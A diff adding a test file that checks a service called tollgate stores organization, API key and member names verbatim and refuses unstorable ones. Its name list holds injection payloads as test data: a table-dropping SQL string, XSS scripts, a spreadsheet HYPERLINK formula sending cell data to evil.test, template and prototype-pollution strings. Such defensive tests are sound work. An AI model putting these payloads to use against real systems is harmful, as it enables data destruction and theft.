@@ -1,0 +1,66 @@
+import { expect, it } from 'vitest'
+import { describeTollgate } from './describe-tollgate.ts'
+
+/** What people call things, or try to. All of it is text, and stays as it was given. */
+const NAMES: readonly [what: string, name: string][] = [
+  ['SQL', `'; drop table tollgate.organizations; --`],
+  ['SQL with a dollar', `$$; select pg_sleep(9); $$ $1 $2`],
+  ['a backslash', `\\'; \\x00 \\u0000 E'\\n'`],
+  ['HTML', `<script>alert("1")</script><img src=x onerror=alert(1)>&amp;`],
+  ['a formula', `=HYPERLINK("https://evil.test?"&A1,"click")`],
+  ['a formula by a sign', `+1+1`],
+  ['a formula by an at', `@SUM(A1:A9)`],
+  ['a template', '\u0024{process.exit(1)} {{7*7}} #{7*7} %s %n'],
+  ['JSON', '{"$ne":null,"__proto__":{"admin":true}}'],
+  ['control characters', '\u0001\u0007\b\t\n\v\f\r\u001b[31m\u007f\u0085'],
+  ['marks from right to left', '\u202Egnp.exe\u202C \u200Fشكرا\u200E \u2066x\u2069'],
+  ['emoji and what joins them', '👩‍👩‍👧‍👦 é e\u0301 \ufeff\u200b'],
+  ['white space at its ends', '  \u00a0 name \u3000 '],
+  ['10,000 characters', 'ü'.repeat(10_000)],
+  ['10,000 quotes', `"'`.repeat(5_000)],
+]
+
+describeTollgate('a name', (subject) => {
+  it.each(NAMES)('of %s is kept as given, wherever it stands', async (_, name) => {
+    const { tollgate, organization } = subject()
+    const id = await organization('rag-chatbot/pro')
+    await tollgate.organizations.update(id, { name })
+    expect((await tollgate.organizations.get(id)).name).toBe(name)
+    const page = await tollgate.organizations.list({ limit: 200 })
+    expect(page.items.find((one) => one.id === id)?.name).toBe(name)
+    const key = await tollgate.apiKeys.create(id, { name })
+    expect(key.name).toBe(name)
+    expect((await tollgate.apiKeys.rotate(id, key.id)).name).toBe(name)
+    expect((await tollgate.apiKeys.list(id)).items.map((one) => one.name)).toEqual([name, name])
+    await tollgate.members.add(id, { userId: 'ada', role: 'owner', name })
+    const userId = name.slice(0, 255)
+    await tollgate.members.add(id, { userId, role: 'viewer' })
+    expect(await tollgate.members.roleOf(id, userId)).toBe('viewer')
+    expect(await tollgate.members.update(id, userId, { role: 'admin', name })).toMatchObject({
+      ...{ userId, name, role: 'admin' },
+    })
+    const { items } = await tollgate.members.list(id)
+    expect(items.find((one) => one.userId === 'ada')?.name).toBe(name)
+    expect(items.map((one) => one.userId)).toContain(userId)
+    const log = await tollgate.audit.list(id, { category: 'members' })
+    expect(log.items.map((one) => one.subject)).toContain(`user:${userId}`)
+    expect(await tollgate.members.remove(id, userId)).toMatchObject({ userId, name })
+    expect((await tollgate.organizations.list({ limit: 200 })).items.length).toBe(page.items.length)
+  })
+
+  it.each([
+    ['NUL', 'a\0b'],
+    ['half a surrogate pair', 'a\ud800b'],
+    ['10,001 characters', 'x'.repeat(10_001)],
+    ['nothing', ''],
+  ])('of %s, which cannot be kept, is refused by its field', async (_, name) => {
+    const { tollgate, organization } = subject()
+    const id = await organization('rag-chatbot/pro')
+    const refused = { code: 'invalid_request', faults: [{ field: 'name' }] }
+    const { apiKeys, members, organizations } = tollgate
+    await expect(organizations.update(id, { name })).rejects.toMatchObject(refused)
+    await expect(apiKeys.create(id, { name })).rejects.toMatchObject(refused)
+    const member = { userId: 'ada', role: 'owner', name } as const
+    await expect(members.add(id, member)).rejects.toMatchObject(refused)
+  })
+})
